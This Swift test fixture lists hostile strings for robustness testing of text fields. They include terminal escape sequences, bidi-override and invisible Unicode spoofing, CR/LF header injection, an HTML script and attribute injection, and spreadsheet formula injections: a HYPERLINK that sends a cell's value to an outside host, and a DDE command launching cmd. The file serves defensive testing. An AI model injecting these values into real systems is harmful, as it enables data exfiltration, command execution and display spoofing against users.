// Texts that attack what shows them: a terminal, a table, a page, a message. A test puts each into
// every field that takes free text.

import Foundation

public enum HostileTexts {
  /// Each with what it tries.
  public static let all = [
    "a\nrefund r9 executed by agent/ann",  // another line
    "a\r\nX-Header: b", "a\rb", "a\u{0B}b\u{0C}c",
    "a\u{85}b\u{2028}c\u{2029}d",  // line breaks of Unicode
    "a\tb\tc",  // another column
    "\u{1B}[2J\u{1B}[31mred\u{1B}]0;title\u{7}",  // what a terminal obeys
    "\u{9B}31m C1, and \u{8}\u{8}\u{7F} over what was before",
    "\u{202E}tnuoma\u{202C} \u{202D}x\u{202A}y\u{202B}z",  // another order
    "\u{2066}a\u{2067}b\u{2068}c", "\u{200E}a\u{200F}b\u{61C}c",
    "12\u{200B}34 \u{FEFF}pay\u{AD}pal \u{2060}a\u{180E}b\u{3164}c",  // what is not seen
    "\u{E0041}\u{E0042} tags, and a\u{FE0F} variation",
    "\u{301}at the start, and a" + String(repeating: "\u{301}\u{489}", count: 40),  // over others
    "\\u{202E} is written, and \\n", "\u{E000}\u{FFFF}\u{10FFFF}",
    "שלום 123 عليكم",  // a right-to-left name
    "</td><td>9.00</td><script>alert(1)</script>", "\" onclick=\"alert(1)", "&lt;b&gt; &amp; '",
    "=HYPERLINK(\"http://a.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1",
  ]

  /// The Big List of Naughty Strings; throws where it is missing.
  public static func naughtyStrings() throws -> [String] {
    try JSONDecoder().decode([String].self, from: Data(OutsideData.bytes(of: "blns.json")))
  }
}
